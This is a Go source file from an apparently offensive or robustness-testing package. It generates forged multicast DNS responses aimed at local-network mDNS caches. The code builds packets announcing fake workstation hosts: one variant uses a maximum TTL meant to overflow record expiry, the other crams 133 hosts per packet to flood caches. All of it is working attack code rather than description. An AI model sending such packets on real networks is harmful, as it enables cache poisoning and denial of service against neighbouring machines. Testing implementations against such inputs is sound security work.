package attack

import (
	"fmt"
	"math"
	"net/netip"
	"strconv"

	"github.com/miekg/dns"
)

// mdnsGroups are where multicast DNS goes (RFC 6762 section 3).
var mdnsGroups = []netip.AddrPort{netip.MustParseAddrPort("224.0.0.251:5353"), netip.MustParseAddrPort("[ff02::fb]:5353")}

// MDNS is what a neighbour can say of hosts that are not there.
type MDNS struct {
	Name string
	// TTL of each record in seconds, Hosts how many one packet is about, with three
	// records each.
	TTL   uint32
	Hosts int
}

// MDNSs are packets against what is known by multicast DNS: records that end in the
// past where their time overflows, and as many in a packet as go into one.
var MDNSs = []MDNS{
	{Name: "endless-ttl", TTL: math.MaxUint32, Hosts: 20},
	{Name: "many-records", TTL: 75 * 60, Hosts: 133},
}

// Packets are so many of them, about different hosts, for both families.
func (m MDNS) Packets(n int) (out []Packet, err error) {
	for i := range n {
		data, err := m.message(i * m.Hosts).Pack()
		if err != nil {
			return nil, fmt.Errorf("packing mDNS records: %w", err)
		}
		for _, to := range mdnsGroups {
			out = append(out, Packet{To: to, Data: data})
		}
	}
	return out, nil
}

// message is about the hosts from a number on: each has an address, and is a
// workstation (RFC 6762 section 18 says what is set in a response).
func (m MDNS) message(first int) *dns.Msg {
	const service = "_workstation._tcp.local."
	msg := &dns.Msg{MsgHdr: dns.MsgHdr{Response: true, Authoritative: true}, Compress: true}
	for i := first; i < first+m.Hosts; i++ {
		header := func(name string, kind uint16) dns.RR_Header {
			return dns.RR_Header{Name: name, Rrtype: kind, Class: dns.ClassINET, Ttl: m.TTL}
		}
		host := "h" + strconv.FormatInt(int64(i), 36) + "."
		msg.Answer = append(msg.Answer,
			&dns.A{Hdr: header(host+"local.", dns.TypeA), A: []byte{198, 18, byte(i >> 8), byte(i)}},
			&dns.TXT{Hdr: header(host+service, dns.TypeTXT), Txt: []string{""}},
			&dns.PTR{Hdr: header(service, dns.TypePTR), Ptr: host + service},
		)
	}
	return msg
}
